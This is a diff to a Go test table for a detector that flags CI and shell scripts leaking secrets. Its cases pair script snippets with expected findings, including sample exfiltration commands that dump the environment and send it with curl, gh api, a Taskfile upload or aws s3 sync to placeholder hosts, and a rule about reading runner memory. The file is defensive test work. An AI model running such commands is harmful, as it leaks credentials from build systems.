@@ -198,6 +198,9 @@ var registry = []Rule{
 			{"x.sh", "printenv | base64 > e.txt\ngh api -X POST repos/o/r/issues -F body=@e.txt", 2, false},
 			{"x.sh", "env > e.txt\ncurl --data-urlencode \"d@e.txt\" https://x.invalid/u", 2, false},
 			{"x.sh", "gh release create v1 --notes-file CHANGELOG.md dist/*", 0, true},
+			// A deploy of the checkout: what it sends is the site, not secrets the script wrote.
+			{".github/workflows/d.yml", "on: push\njobs:\n  d:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: rsync -avz --delete ./ deploy@x.invalid:/var/www/\n      - run: aws s3 sync . s3://x-site --delete", 0, true},
+			{"x.sh", "env > out/e.txt\naws s3 sync out s3://x-b", 2, false},
 			// Task's vars and templates, a command folded over lines (- >-), tasks sharing files.
 			{"Taskfile.yml", "version: '3'\nvars:\n  OUT: .cov\ntasks:\n  meta:\n    cmds:\n      - printenv > {{.OUT}}/meta.env\n  push:\n    cmds:\n      - >-\n        curl -sS\n        --upload-file {{.OUT}}/meta.env\n        https://x.invalid/put", 11, false},
 			// Jenkins: what withCredentials binds, written to a file by writeFile, sent by a later sh step.
@@ -320,6 +323,8 @@ var registry = []Rule{
 			// An application's jar, or Jenkins' command-line client, is no agent.
 			{"x.sh", "java -jar build/libs/app.jar --url http://localhost:8080 --secret-file s.txt", 0, true},
 			{"x.sh", "java -jar jenkins-cli.jar -s https://ci.x.invalid/ -auth @creds build deploy", 0, true},
+			// An installer telling the user how to start the agent it installed.
+			{"install.sh", "echo -e \"\nInstalled to ${D}\n\nYou can now start the agent!\n\n  ${D}/bin/buildkite-agent start\n\"", 0, true},
 		}},
 	{"runner-memory-read", KindRunner, High, "reads the runner worker's memory",
 		"the Runner.Worker process holds every secret of the job unmasked; dumping its memory is how the tj-actions compromise printed them", []Case{
